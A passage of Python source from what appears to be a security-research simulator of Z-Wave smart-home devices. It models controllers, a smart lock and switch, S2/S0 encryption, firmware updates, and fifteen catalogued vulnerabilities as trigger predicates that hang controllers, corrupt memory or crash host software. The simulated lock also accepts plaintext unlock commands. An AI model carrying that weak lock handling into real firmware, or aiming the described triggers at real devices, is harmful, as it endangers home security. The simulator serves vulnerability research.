            if frame.data and frame.data[0] in controller.nvm:
                controller.nvm.remove(frame.data[0])
                return SerialFrame(TYPE_RESPONSE, FUNC_REMOVE_FAILED_NODE, bytes([0x01]))
            return SerialFrame(TYPE_RESPONSE, FUNC_REMOVE_FAILED_NODE, bytes([0x00]))
        # Unknown function: the chip answers with an empty response.
        return SerialFrame(TYPE_RESPONSE, frame.func_id, b"")


class PCControllerClient:
    """Host-side convenience wrapper: what the PC program shows the user."""

    def __init__(self, chip: SerialApiChip, link: SerialLink):
        self._chip = chip
        self._link = link
        self._events: List[Tuple[int, bytes]] = []

    def _transact(self, func_id: int, data: bytes = b"") -> Optional[SerialFrame]:
        self._link.host_write(SerialFrame(TYPE_REQUEST, func_id, data).encode())
        self._chip.process()
        frames, controls = _split_stream(self._link.host_read_all())
        if ACK not in controls:
            raise SimulatorError("chip did not acknowledge the request")
        response = None
        for raw in frames:
            frame = SerialFrame.decode(raw)
            if frame.frame_type == TYPE_RESPONSE and frame.func_id == func_id:
                response = frame
            elif frame.func_id == FUNC_APPLICATION_COMMAND_HANDLER:
                src = frame.data[1]
                length = frame.data[2]
                self._events.append((src, frame.data[3 : 3 + length]))
        return response

    # -- the user-visible operations ------------------------------------------------

    def get_version(self) -> str:
        response = self._transact(FUNC_GET_VERSION)
        return response.data[:-1].rstrip(b"\x00").decode()

    def memory_get_id(self) -> Tuple[int, int]:
        response = self._transact(FUNC_MEMORY_GET_ID)
        return int.from_bytes(response.data[:4], "big"), response.data[4]

    def node_list(self) -> List[int]:
        """The node list pane of Figures 8-11."""
        response = self._transact(FUNC_GET_INIT_DATA)
        bitmask = response.data[3 : 3 + NODE_BITMASK_LENGTH]
        nodes = []
        for node_id in range(1, 233):
            if bitmask[(node_id - 1) // 8] & (1 << ((node_id - 1) % 8)):
                nodes.append(node_id)
        return nodes

    def node_protocol_info(self, node_id: int) -> Dict[str, int]:
        """The per-node detail pane: capability/security/device classes."""
        response = self._transact(FUNC_GET_NODE_PROTOCOL_INFO, bytes([node_id]))
        capability, security, _, basic, generic, specific = response.data[:6]
        return {
            "capability": capability,
            "security": security,
            "basic": basic,
            "generic": generic,
            "specific": specific,
        }

    def send_data(self, dst: int, apl: bytes) -> bool:
        response = self._transact(FUNC_SEND_DATA, bytes([dst, len(apl)]) + apl)
        return bool(response.data and response.data[0])

    def soft_reset(self) -> None:
        self._transact(FUNC_SOFT_RESET)

    def poll_events(self) -> List[Tuple[int, bytes]]:
        """Drain APPLICATION_COMMAND_HANDLER callbacks (src, APL bytes)."""
        self._chip.process()
        frames, _ = _split_stream(self._link.host_read_all())
        for raw in frames:
            frame = SerialFrame.decode(raw)
            if frame.func_id == FUNC_APPLICATION_COMMAND_HANDLER:
                src = frame.data[1]
                length = frame.data[2]
                self._events.append((src, frame.data[3 : 3 + length]))
        events, self._events = self._events, []
        return events


def attach_pc_controller(controller: VirtualController) -> PCControllerClient:
    """Wire a PC-Controller-style host onto *controller* and return it."""
    link = SerialLink()
    chip = SerialApiChip(controller, link)
    return PCControllerClient(chip, link)
