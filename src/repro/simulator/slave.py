"""Virtual slave devices: the smart lock (D8) and smart switch (D9).

Table II adds these "to create a realistic smart home": they give the
passive scanner live traffic to sniff, the attack-scenario example a victim,
and the controller something to poll.  The lock speaks S2 (like the Schlage
BE469ZP), the switch is a legacy no-security device (like the GE ZW4201).
"""

from __future__ import annotations

import random
from typing import Optional, Tuple

from ..errors import FrameError
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium, Reception
from ..security.s2 import S2Context
from ..zwave import constants as const
from ..zwave.application import ApplicationPayload
from ..zwave.constants import Region
from ..zwave.frame import ZWaveFrame
from ..zwave.nif import (
    BasicDeviceClass,
    GenericDeviceClass,
    NodeInfo,
    encode_nif_report,
    is_nif_request,
)


class VirtualSlave:
    """Base class for simulated slave devices."""

    GENERIC_CLASS = GenericDeviceClass.BINARY_SWITCH
    LISTED_CMDCLS: Tuple[int, ...] = (0x20,)

    def __init__(
        self,
        name: str,
        home_id: int,
        node_id: int,
        clock: SimClock,
        medium: RadioMedium,
        position: Tuple[float, float] = (5.0, 0.0),
        controller_id: int = const.CONTROLLER_NODE_ID,
        rng: Optional[random.Random] = None,
    ):
        self.name = name
        self.home_id = home_id
        self.node_id = node_id
        self.controller_id = controller_id
        self._clock = clock
        self._medium = medium
        self._rng = rng or random.Random(0)
        self._sequence = 0
        self._report_interval: Optional[float] = None
        self.frames_received = 0
        medium.attach(name, position, region=Region.US, callback=self._on_receive)

    # -- reporting --------------------------------------------------------------

    def start_reporting(self, interval: float) -> None:
        """Send unsolicited status reports every *interval* seconds."""
        self._report_interval = interval
        self._clock.schedule(interval, self._do_report)

    def _do_report(self) -> None:
        self.send_report()
        if self._report_interval is not None:
            self._clock.schedule(self._report_interval, self._do_report)

    def send_report(self) -> None:
        """Transmit the device's current status to the controller."""
        self._send(self.controller_id, self.report_payload())

    def report_payload(self) -> ApplicationPayload:
        raise NotImplementedError

    def node_info(self) -> NodeInfo:
        return NodeInfo(
            basic=BasicDeviceClass.SLAVE,
            generic=self.GENERIC_CLASS,
            listed_cmdcls=self.LISTED_CMDCLS,
        )

    # -- frame plumbing ------------------------------------------------------------

    def _next_seq(self) -> int:
        self._sequence = (self._sequence + 1) % 16
        return self._sequence

    def _send(self, dst: int, payload: ApplicationPayload) -> None:
        frame = ZWaveFrame(
            home_id=self.home_id,
            src=self.node_id,
            dst=dst,
            payload=payload.encode(),
            sequence=self._next_seq(),
        )
        self._medium.transmit(self.name, frame.encode(), rate_kbaud=100.0)

    def _on_receive(self, reception: Reception) -> None:
        raw = reception.raw
        # Zero-copy prefilter on the buffer: most traffic on the shared
        # medium is addressed to the controller, so the dst/home-id bytes
        # reject it before any decode work.  Outcome-identical to decoding
        # first — a frame rejected here would have been rejected by the
        # same checks (or failed verification) right after the decode, and
        # neither path counts anything before ``frames_received``.
        if len(raw) >= const.MAC_HEADER_SIZE + const.CS8_TRAILER_SIZE:
            if int.from_bytes(raw[const.HOME_ID_SLICE], "big") != self.home_id:
                return
            dst = raw[const.DST_OFFSET]
            if dst != self.node_id and dst != const.BROADCAST_NODE_ID:
                return
        try:
            frame = ZWaveFrame.decode(raw, verify=True)
        except FrameError:
            return
        if frame.home_id != self.home_id:
            return
        if frame.dst not in (self.node_id, const.BROADCAST_NODE_ID):
            return
        if frame.is_ack:
            return
        self.frames_received += 1
        if frame.ack_request and not frame.is_broadcast:
            self._medium.transmit(self.name, frame.ack().encode(), rate_kbaud=100.0)
        if not frame.payload or frame.payload == bytes([const.NOP_CMDCL]):
            return
        try:
            payload = ApplicationPayload.decode(frame.payload)
        except FrameError:
            return
        if is_nif_request(payload):
            self._send(frame.src, encode_nif_report(self.node_info()))
            return
        self.handle_command(frame, payload)

    def handle_command(self, frame: ZWaveFrame, payload: ApplicationPayload) -> None:
        raise NotImplementedError


class VirtualBinarySwitch(VirtualSlave):
    """A legacy no-security smart switch (D9, GE ZW4201-style)."""

    GENERIC_CLASS = GenericDeviceClass.BINARY_SWITCH
    LISTED_CMDCLS = (0x20, 0x25, 0x27, 0x72, 0x86)

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.on = False

    def report_payload(self) -> ApplicationPayload:
        value = 0xFF if self.on else 0x00
        return ApplicationPayload(0x25, 0x03, bytes([value]))

    def handle_command(self, frame: ZWaveFrame, payload: ApplicationPayload) -> None:
        if payload.cmdcl in (0x20, 0x25):
            if payload.cmd == 0x01 and payload.params:  # SET
                self.on = payload.params[0] != 0x00
            elif payload.cmd == 0x02:  # GET
                self._send(frame.src, self.report_payload())


class VirtualDoorLock(VirtualSlave):
    """An S2 smart door lock (D8, Schlage BE469ZP-style)."""

    GENERIC_CLASS = GenericDeviceClass.ENTRY_CONTROL
    LISTED_CMDCLS = (0x20, 0x62, 0x63, 0x72, 0x80, 0x86, 0x9F)

    #: DOOR_LOCK operation-report mode bytes.
    MODE_UNSECURED = 0x00
    MODE_SECURED = 0xFF

    def __init__(
        self,
        *args,
        network_key: bytes = b"\x00" * 16,
        secure_reports: bool = True,
        **kwargs,
    ):
        super().__init__(*args, **kwargs)
        self.locked = True
        self._s2 = S2Context(network_key, self.node_id, self._rng)
        self._secure_reports = secure_reports
        from .transport import S2Messaging

        self._s2m = S2Messaging(
            self._s2, self.home_id, self.node_id, self._send, self._handle_inner
        )

    @property
    def s2(self) -> S2Context:
        return self._s2

    @property
    def s2_messaging(self):
        return self._s2m

    def report_payload(self) -> ApplicationPayload:
        mode = self.MODE_SECURED if self.locked else self.MODE_UNSECURED
        return ApplicationPayload(0x62, 0x03, bytes([mode, 0x00]))

    def send_report(self) -> None:
        """Status reports travel S2-encapsulated, like a real BE469ZP."""
        if self._secure_reports:
            self._s2m.send_secure(self.controller_id, self.report_payload())
        else:
            super().send_report()

    #: NOTIFICATION (0x71) access-control event codes.
    EVENT_MANUAL_LOCK = 0x01
    EVENT_MANUAL_UNLOCK = 0x02
    EVENT_REMOTE_LOCK = 0x03
    EVENT_REMOTE_UNLOCK = 0x04

    def _set_locked(self, locked: bool, remote: bool) -> None:
        """Change the bolt state and emit the access-control notification."""
        if locked == self.locked:
            return
        self.locked = locked
        if remote:
            event = self.EVENT_REMOTE_LOCK if locked else self.EVENT_REMOTE_UNLOCK
        else:
            event = self.EVENT_MANUAL_LOCK if locked else self.EVENT_MANUAL_UNLOCK
        # NOTIFICATION_REPORT: v1 alarm type 0, level = event code.
        notification = ApplicationPayload(0x71, 0x05, bytes([0x00, event]))
        if self._secure_reports:
            self._s2m.send_secure(self.controller_id, notification)
        else:
            self._send(self.controller_id, notification)

    def operate_manually(self, locked: bool) -> None:
        """Someone turns the thumb-turn: state change + notification."""
        self._set_locked(locked, remote=False)

    def _handle_inner(self, src: int, inner: ApplicationPayload) -> None:
        """A decapsulated command operates the lock; replies go back S2."""
        if inner.cmdcl == 0x62:
            if inner.cmd == 0x01 and inner.params:
                self._set_locked(inner.params[0] == self.MODE_SECURED, remote=True)
                self._s2m.send_secure(src, self.report_payload())
            elif inner.cmd == 0x02:
                self._s2m.send_secure(src, self.report_payload())

    def handle_command(self, frame: ZWaveFrame, payload: ApplicationPayload) -> None:
        """Route S2 transport messages, then plaintext lock operations."""
        if self._s2m.handle(frame.src, payload):
            return
        if payload.cmdcl == 0x62:
            if payload.cmd == 0x01 and payload.params:  # OPERATION_SET
                self._set_locked(payload.params[0] == self.MODE_SECURED, remote=True)
                self._send(frame.src, self.report_payload())
            elif payload.cmd == 0x02:  # OPERATION_GET
                self._send(frame.src, self.report_payload())
        elif payload.cmdcl == 0x20:
            if payload.cmd == 0x01 and payload.params:
                self.locked = payload.params[0] != 0x00
            elif payload.cmd == 0x02:
                value = 0xFF if self.locked else 0x00
                self._send(frame.src, ApplicationPayload(0x20, 0x03, bytes([value])))
