"""Message-level secure transports for the simulated devices.

The crypto contexts in :mod:`repro.security` implement the *primitives*;
this module implements the over-the-air *protocols* both a controller and a
slave run so that legitimate encrypted traffic flows through the medium:

* :class:`S2Messaging` — the SPAN handshake (NONCE_GET / NONCE_REPORT with
  16-byte entropy) followed by MESSAGE_ENCAPSULATION, with the first
  encapsulation of a fresh SPAN carrying the sender's entropy in the SPAN
  extension so the receiver can synchronise;
* :class:`S0Messaging` — the classic nonce-request dance (NONCE_GET →
  NONCE_REPORT → MESSAGE_ENCAPSULATION).

Both are transport-only state machines: they call back into their owner to
actually transmit frames and to consume decapsulated payloads, so the
virtual controller and the virtual slaves share one implementation.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass
from typing import Callable, Deque, Dict

from ..errors import AuthenticationError, NonceError
from ..security import s0 as s0mod
from ..security import s2 as s2mod
from ..security.s0 import S0Context, S0Encapsulated
from ..security.s2 import ENTROPY_SIZE, EXT_SPAN, S2Context, S2Encapsulated
from ..zwave.application import ApplicationPayload

#: Callback used to transmit an application payload to a peer node.
SendPayload = Callable[[int, ApplicationPayload], None]
#: Callback invoked with a successfully decapsulated inner payload.
DeliverInner = Callable[[int, ApplicationPayload], None]

#: The command classes the secure transports own (S2 0x9F, S0 0x98).
#: Receivers gate on this before invoking the handlers at all — every
#: other class can skip both state machines without a call.  Mirrors the
#: ``handle()`` guards below; a payload outside these classes is always
#: left unconsumed.
TRANSPORT_CMDCLS = frozenset((0x9F, 0x98))


@dataclass
class TransportStats:
    """Counters for one secure-messaging endpoint."""

    handshakes: int = 0
    sent_encapsulated: int = 0
    received_encapsulated: int = 0
    auth_failures: int = 0


class S2Messaging:
    """The S2 message protocol bound to one node's :class:`S2Context`."""

    def __init__(
        self,
        context: S2Context,
        home_id: int,
        node_id: int,
        send: SendPayload,
        deliver: DeliverInner,
    ):
        self._ctx = context
        self._home_id = home_id
        self._node_id = node_id
        self._send = send
        self._deliver = deliver
        self._outbox: Dict[int, Deque[ApplicationPayload]] = {}
        self._fresh_span_peers: set = set()
        self._awaiting_nonce: set = set()
        self._seq = 0
        self.stats = TransportStats()

    # -- sending ------------------------------------------------------------------

    def send_secure(self, dst: int, inner: ApplicationPayload) -> None:
        """Encrypt *inner* toward *dst*, handshaking first if needed."""
        if self._ctx.has_span(dst, inbound=False):
            self._transmit_encapsulated(dst, inner)
            return
        self._outbox.setdefault(dst, deque()).append(inner)
        self._request_nonce(dst)

    def _request_nonce(self, dst: int) -> None:
        # One outstanding handshake per peer: a second NONCE_GET would make
        # the peer regenerate its entropy and desynchronise the SPAN.
        if dst in self._awaiting_nonce:
            return
        self._awaiting_nonce.add(dst)
        self._seq = (self._seq + 1) % 256
        self._send(dst, ApplicationPayload(0x9F, 0x01, bytes([self._seq])))

    def _transmit_encapsulated(self, dst: int, inner: ApplicationPayload) -> None:
        encap = self._ctx.encapsulate(
            inner.encode(), peer=dst, src=self._node_id, dst=dst, home_id=self._home_id
        )
        extensions = encap.extensions
        span_extension = b""
        if dst in self._fresh_span_peers:
            # First message on a fresh SPAN: ship our entropy so the peer
            # can derive the same nonce stream.
            entropy = self._ctx.pending_entropy(dst)
            if entropy is not None:
                extensions |= EXT_SPAN
                span_extension = entropy
            self._fresh_span_peers.discard(dst)
        wire = S2Encapsulated(
            seq_no=encap.seq_no,
            extensions=extensions,
            blob=encap.blob,
            span_extension=span_extension,
        )
        self._send(dst, ApplicationPayload(0x9F, 0x03, wire.encode()))
        self.stats.sent_encapsulated += 1

    # -- receiving ------------------------------------------------------------------

    def handle(self, src: int, payload: ApplicationPayload) -> bool:
        """Process an S2 transport payload; ``True`` when consumed.

        Only *well-formed* transport messages are consumed: a NONCE_GET
        must carry its sequence byte, an encapsulation its body.  Anything
        malformed falls through to the caller (where, on a vulnerable
        controller, the Table III predicates take over).
        """
        if payload.cmdcl != 0x9F or payload.cmd is None:
            return False
        if payload.cmd == 0x01 and len(payload.params) >= 1:
            self._answer_nonce_get(src, payload.params[0])
            return True
        if payload.cmd == 0x02 and len(payload.params) >= 2 + ENTROPY_SIZE:
            self._consume_nonce_report(src, payload.params)
            return True
        if payload.cmd == 0x03 and len(payload.params) >= 1:
            return self._consume_encapsulation(src, payload)
        return False

    def _answer_nonce_get(self, src: int, seq_no: int) -> None:
        entropy = self._ctx.generate_entropy(src)
        body = bytes([seq_no, s2mod.FLAG_SOS]) + entropy
        self._send(src, ApplicationPayload(0x9F, 0x02, body))
        self.stats.handshakes += 1

    def _consume_nonce_report(self, src: int, params: bytes) -> None:
        self._awaiting_nonce.discard(src)
        receiver_entropy = params[2 : 2 + ENTROPY_SIZE]
        sender_entropy = self._ctx.generate_entropy(src)
        self._ctx.establish_span(src, sender_entropy, receiver_entropy, inbound=False)
        self._fresh_span_peers.add(src)
        outbox = self._outbox.pop(src, deque())
        while outbox:
            self._transmit_encapsulated(src, outbox.popleft())

    def _consume_encapsulation(self, src: int, payload: ApplicationPayload) -> bool:
        try:
            wire = S2Encapsulated.decode(payload.params)
        except AuthenticationError:
            self.stats.auth_failures += 1
            return True
        if wire.span_extension and not self._ctx.has_span(src, inbound=True):
            ours = self._ctx.pending_entropy(src)
            if ours is None:
                return True
            self._ctx.establish_span(src, wire.span_extension, ours, inbound=True)
        try:
            inner_bytes = self._ctx.decapsulate(
                S2Encapsulated(wire.seq_no, wire.extensions & ~EXT_SPAN, wire.blob),
                peer=src,
                src=src,
                dst=self._node_id,
                home_id=self._home_id,
            )
        except (AuthenticationError, NonceError):
            self.stats.auth_failures += 1
            return True
        self.stats.received_encapsulated += 1
        try:
            inner = ApplicationPayload.decode(inner_bytes)
        except Exception:
            return True
        self._deliver(src, inner)
        return True


class S0Messaging:
    """The S0 nonce-request protocol bound to one node's :class:`S0Context`."""

    def __init__(
        self,
        context: S0Context,
        node_id: int,
        send: SendPayload,
        deliver: DeliverInner,
    ):
        self._ctx = context
        self._node_id = node_id
        self._send = send
        self._deliver = deliver
        self._outbox: Dict[int, Deque[ApplicationPayload]] = {}
        self.stats = TransportStats()

    def send_secure(self, dst: int, inner: ApplicationPayload) -> None:
        """Queue *inner* and ask the peer for a nonce."""
        self._outbox.setdefault(dst, deque()).append(inner)
        self._send(dst, ApplicationPayload(0x98, s0mod.CMD_NONCE_GET, b""))

    def handle(self, src: int, payload: ApplicationPayload) -> bool:
        """Process an S0 transport payload; ``True`` when consumed."""
        if payload.cmdcl != 0x98 or payload.cmd is None:
            return False
        if payload.cmd == s0mod.CMD_NONCE_GET:
            nonce = self._ctx.issue_nonce()
            self._send(src, ApplicationPayload(0x98, s0mod.CMD_NONCE_REPORT, nonce))
            self.stats.handshakes += 1
            return True
        if payload.cmd == s0mod.CMD_NONCE_REPORT and len(payload.params) == s0mod.NONCE_SIZE:
            outbox = self._outbox.get(src)
            if outbox:
                inner = outbox.popleft()
                encap = self._ctx.encapsulate(
                    inner.encode(), payload.params, src=self._node_id, dst=src
                )
                self._send(
                    src,
                    ApplicationPayload(
                        0x98, s0mod.CMD_MESSAGE_ENCAPSULATION, encap.encode()
                    ),
                )
                self.stats.sent_encapsulated += 1
            return True
        if payload.cmd == s0mod.CMD_MESSAGE_ENCAPSULATION:
            try:
                encap = S0Encapsulated.decode(payload.params)
                inner_bytes = self._ctx.decapsulate(encap, src=src, dst=self._node_id)
            except (AuthenticationError, NonceError):
                self.stats.auth_failures += 1
                return True
            self.stats.received_encapsulated += 1
            try:
                inner = ApplicationPayload.decode(inner_bytes)
            except Exception:
                return True
            self._deliver(src, inner)
            return True
        return False
