"""Host-side controlling software attached to a controller.

Three of the paper's fifteen bugs never touch the Z-Wave chip itself: they
kill the software driving it — the Windows **Z-Wave PC Controller program**
for the USB-stick controllers D1-D5 (bugs #06 and #13) and the
**SmartThings smartphone app** for the Samsung hubs D6/D7 (bug #05).  This
module models that software as a crashable component the controller
forwards events to, with an operator-style ``restart()``.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import List, Optional


class HostKind(Enum):
    """Which controlling program is attached."""

    PC_CONTROLLER = "Z-Wave PC Controller program"
    SMARTPHONE_APP = "SmartThings smartphone app"


class HostState(Enum):
    """Lifecycle states of the controlling program."""
    RUNNING = "running"
    CRASHED = "crashed"  # process died; needs a restart
    DENIED = "denied"  # alive but unresponsive (DoS)


@dataclass
class HostEvent:
    """One entry in the host program's event log."""

    timestamp: float
    kind: str
    detail: str = ""


class HostProgram:
    """The controlling application living on the laptop / smartphone."""

    def __init__(self, kind: HostKind, name: str = ""):
        self.kind = kind
        self.name = name or kind.value
        self._state = HostState.RUNNING
        self._crash_count = 0
        self._dos_count = 0
        self._events: List[HostEvent] = []

    # -- state --------------------------------------------------------------

    @property
    def state(self) -> HostState:
        return self._state

    @property
    def responsive(self) -> bool:
        """Whether the homeowner can still drive devices through it."""
        return self._state is HostState.RUNNING

    @property
    def crash_count(self) -> int:
        return self._crash_count

    @property
    def dos_count(self) -> int:
        return self._dos_count

    def events(self) -> List[HostEvent]:
        return list(self._events)

    # -- effects the vulnerable controller forwards ---------------------------

    def crash(self, timestamp: float, detail: str = "") -> None:
        """The program dies (bug #06 style)."""
        self._state = HostState.CRASHED
        self._crash_count += 1
        self._events.append(HostEvent(timestamp, "crash", detail))

    def deny_service(self, timestamp: float, detail: str = "") -> None:
        """The program wedges: alive but useless (bugs #05 / #13 style)."""
        if self._state is HostState.RUNNING:
            self._state = HostState.DENIED
        self._dos_count += 1
        self._events.append(HostEvent(timestamp, "dos", detail))

    def notify(self, timestamp: float, detail: str) -> None:
        """An ordinary status event (device report forwarded by the hub)."""
        self._events.append(HostEvent(timestamp, "notify", detail))

    # -- operator actions ----------------------------------------------------------

    def restart(self, timestamp: Optional[float] = None) -> None:
        """The operator restarts the program (the paper's manual recovery)."""
        self._state = HostState.RUNNING
        self._events.append(HostEvent(timestamp or 0.0, "restart"))
