"""Firmware update (OTA) over command class 0x7A.

The FIRMWARE_UPDATE_MD class is double-edged in the paper: its *malformed*
payloads hang every testbed controller (bugs #09 and #15), while its
*well-formed* flow is how "easy firmware updates" — the remediation
Section V-B demands — actually ship. This module implements the
well-formed flow between a controller and an updatable slave:

1. the controller offers an image (``FIRMWARE_UPDATE_MD_REQUEST_GET``
   with vendor/firmware identifiers and checksum);
2. the device accepts (``REQUEST_REPORT``) and pulls fragments
   (``FIRMWARE_UPDATE_MD_GET`` naming how many reports it wants);
3. the controller streams numbered ``FIRMWARE_UPDATE_MD_REPORT``
   fragments (last one flagged);
4. the device reassembles, verifies the CRC-16 and answers with a
   ``STATUS_REPORT`` — success swaps the running version.

Every message crosses the simulated medium.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional

from ..zwave.application import ApplicationPayload
from ..zwave.checksum import crc16
from ..zwave.nif import GenericDeviceClass
from .controller import VirtualController
from .slave import VirtualSlave

#: 0x7A command identifiers.
CMD_MD_GET = 0x01
CMD_MD_REPORT = 0x02
CMD_REQUEST_GET = 0x03
CMD_REQUEST_REPORT = 0x04
CMD_UPDATE_GET = 0x05
CMD_UPDATE_REPORT = 0x06
CMD_STATUS_REPORT = 0x07

#: Status codes.
STATUS_OK = 0xFF
STATUS_BAD_CHECKSUM = 0x00
REQUEST_ACCEPTED = 0xFF

#: Payload bytes per fragment (fits the 54-byte APL budget comfortably).
FRAGMENT_SIZE = 20

#: Fragment-number flag marking the final report.
LAST_FRAGMENT_FLAG = 0x80


@dataclass(frozen=True)
class FirmwareImage:
    """One firmware build ready to ship."""

    version: int
    data: bytes

    @property
    def checksum(self) -> int:
        return crc16(self.data)

    @property
    def fragment_count(self) -> int:
        return max(1, (len(self.data) + FRAGMENT_SIZE - 1) // FRAGMENT_SIZE)

    def fragment(self, number: int) -> bytes:
        start = (number - 1) * FRAGMENT_SIZE
        return self.data[start : start + FRAGMENT_SIZE]


class OtaCapableSensor(VirtualSlave):
    """A slave that accepts firmware updates over 0x7A."""

    GENERIC_CLASS = GenericDeviceClass.SENSOR_BINARY
    LISTED_CMDCLS = (0x20, 0x30, 0x7A, 0x86)

    def __init__(self, *args, firmware_version: int = 1, **kwargs):
        super().__init__(*args, **kwargs)
        self.firmware_version = firmware_version
        self.update_status: Optional[int] = None
        self._incoming: Dict[int, bytes] = {}
        self._expected_checksum = 0
        self._expected_fragments = 0
        self.resumes = 0  # mid-transfer re-offers of the same image
        self.restarts = 0  # re-offers that discarded buffered fragments

    def report_payload(self) -> ApplicationPayload:
        return ApplicationPayload(0x30, 0x03, b"\x00")

    def handle_command(self, frame, payload: ApplicationPayload) -> None:
        """Run the device side of the OTA protocol state machine."""
        if payload.cmdcl != 0x7A or payload.cmd is None:
            return
        if payload.cmd == CMD_MD_GET:
            body = bytes([0x01, 0x02, self.firmware_version])
            self._send(frame.src, ApplicationPayload(0x7A, CMD_MD_REPORT, body))
        elif payload.cmd == CMD_REQUEST_GET and len(payload.params) >= 5:
            checksum = int.from_bytes(payload.params[2:4], "big")
            fragments = payload.params[4]
            # A re-offer of the image currently in flight *resumes* the
            # transfer (buffered fragments stay, only the gaps are pulled
            # again); any other offer aborts the old transfer and
            # restarts from scratch.
            resuming = (
                self.update_status is None
                and bool(self._incoming)
                and checksum == self._expected_checksum
                and fragments == self._expected_fragments
            )
            if resuming:
                self.resumes += 1
            else:
                if self._incoming and self.update_status is None:
                    self.restarts += 1
                self._incoming.clear()
            self._expected_checksum = checksum
            self._expected_fragments = fragments
            self.update_status = None
            self._send(
                frame.src,
                ApplicationPayload(0x7A, CMD_REQUEST_REPORT, bytes([REQUEST_ACCEPTED])),
            )
            if resuming:
                # Pull only the missing fragment numbers, one GET each
                # (gaps need not be contiguous).
                for number in range(1, self._expected_fragments + 1):
                    if number not in self._incoming:
                        self._send(
                            frame.src,
                            ApplicationPayload(
                                0x7A, CMD_UPDATE_GET, bytes([0x01, number])
                            ),
                        )
            else:
                # Pull every fragment in one request.
                self._send(
                    frame.src,
                    ApplicationPayload(
                        0x7A, CMD_UPDATE_GET, bytes([self._expected_fragments, 0x01])
                    ),
                )
        elif payload.cmd == CMD_UPDATE_REPORT and len(payload.params) >= 1:
            number = payload.params[0] & ~LAST_FRAGMENT_FLAG
            self._incoming[number] = payload.params[1:]
            # Fragments can arrive out of order (the short final fragment
            # has the least airtime); finalise on completeness, not on the
            # last-fragment flag.
            if self._expected_fragments and len(self._incoming) >= self._expected_fragments:
                self._finish(frame.src)

    def _finish(self, src: int) -> None:
        blob = b"".join(self._incoming[n] for n in sorted(self._incoming))
        if (
            len(self._incoming) == self._expected_fragments
            and crc16(blob) == self._expected_checksum
        ):
            self.firmware_version += 1
            self.update_status = STATUS_OK
        else:
            self.update_status = STATUS_BAD_CHECKSUM
        self._send(
            src,
            ApplicationPayload(
                0x7A, CMD_STATUS_REPORT, bytes([self.update_status, 0x00, 0x00])
            ),
        )


class FirmwareSender:
    """Controller-side OTA driver: offers an image and streams fragments."""

    def __init__(self, controller: VirtualController, image: FirmwareImage):
        self._controller = controller
        self.image = image
        self.fragments_sent = 0
        self.completed: Dict[int, int] = {}  # node id -> final status
        controller.apl_listeners.append(self._on_report)

    def start(self, node_id: int) -> None:
        """Offer the image to *node_id* (vendor 0x0001, firmware 0x0002)."""
        body = bytes([0x00, 0x01]) + self.image.checksum.to_bytes(2, "big") + bytes(
            [self.image.fragment_count]
        )
        self._controller.send_command(
            node_id, ApplicationPayload(0x7A, CMD_REQUEST_GET, body)
        )

    def _on_report(self, src: int, payload: ApplicationPayload) -> None:
        if payload.cmdcl != 0x7A or payload.cmd is None:
            return
        if payload.cmd == CMD_UPDATE_GET and len(payload.params) >= 2:
            count = payload.params[0]
            first = payload.params[1]
            for number in range(first, min(first + count, self.image.fragment_count + 1)):
                flags = number
                if number == self.image.fragment_count:
                    flags |= LAST_FRAGMENT_FLAG
                self._controller.send_command(
                    src,
                    ApplicationPayload(
                        0x7A,
                        CMD_UPDATE_REPORT,
                        bytes([flags]) + self.image.fragment(number),
                    ),
                )
                self.fragments_sent += 1
        elif payload.cmd == CMD_STATUS_REPORT and payload.params:
            self.completed[src] = payload.params[0]
