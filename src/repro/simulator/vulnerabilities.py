"""The fifteen zero-day vulnerability models of Table III, plus the
MAC-layer one-days that VFuzz-style fuzzing finds (Table V).

Each zero-day is modelled as a trigger predicate over the received
application payload plus an effect the firmware applies when it fires.
Trigger shapes follow the paper's root-cause analysis ("lack of
authentication, weak identity verification, inadequate access control,
missing packet validation"): handlers dispatch on the command byte without
bounds checks (so runs of undefined commands fall into vulnerable paths)
and mis-handle payloads whose *length* deviates from the schema.  The
canonical (CMDCL, CMD) of Table III is the minimal proof-of-concept ZCover
reports.

A modelling consequence the evaluation depends on: a MAC-frame fuzzer that
mutates header bytes in place never changes the *length* of the application
payload, so it structurally cannot reach the length-confusion bugs — which
reproduces the paper's observation that ZCover's and VFuzz's finding sets
are disjoint.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Callable, Dict, List, Optional, Tuple


class EffectType(Enum):
    """What a triggered vulnerability does to the system under test."""

    MEMORY_WAKEUP_CLEAR = "memory_wakeup_clear"
    MEMORY_MODIFY = "memory_modify"
    MEMORY_INSERT = "memory_insert"
    MEMORY_REMOVE = "memory_remove"
    MEMORY_OVERWRITE = "memory_overwrite"
    CONTROLLER_HANG = "controller_hang"
    HOST_CRASH = "host_crash"
    HOST_DOS = "host_dos"


#: Effects that corrupt NVM rather than availability.
MEMORY_EFFECTS = frozenset(
    {
        EffectType.MEMORY_WAKEUP_CLEAR,
        EffectType.MEMORY_MODIFY,
        EffectType.MEMORY_INSERT,
        EffectType.MEMORY_REMOVE,
        EffectType.MEMORY_OVERWRITE,
    }
)

#: Effects that land on the attached host program, not the chip.
HOST_EFFECTS = frozenset({EffectType.HOST_CRASH, EffectType.HOST_DOS})


class RootCause(Enum):
    """Table III's root-cause column."""

    SPECIFICATION = "Specification"
    IMPLEMENTATION = "Implementation"


@dataclass(frozen=True)
class TriggerContext:
    """What a predicate sees about one received application payload."""

    cmdcl: int
    cmd: Optional[int]
    params: bytes
    encapsulated: bool
    supported_cmdcls: Tuple[int, ...] = ()

    @property
    def param_count(self) -> int:
        return len(self.params)

    def param(self, index: int, default: int = -1) -> int:
        return self.params[index] if index < len(self.params) else default


Predicate = Callable[[TriggerContext], bool]


@dataclass(frozen=True)
class Vulnerability:
    """One Table III zero-day."""

    bug_id: int
    cmdcl: int
    canonical_cmd: int
    description: str
    effect: EffectType
    root_cause: RootCause
    cve: Optional[str]
    affected: str
    duration_s: Optional[float]  # None = "Infinite" in Table III.
    predicate: Predicate

    def triggered_by(self, ctx: TriggerContext) -> bool:
        """Whether *ctx* fires this vulnerability."""
        if ctx.cmdcl != self.cmdcl or ctx.cmd is None:
            return False
        return self.predicate(ctx)

    @property
    def duration_label(self) -> str:
        if self.duration_s is None:
            return "Infinite"
        if self.duration_s >= 120:
            return f"{int(self.duration_s // 60)} min"
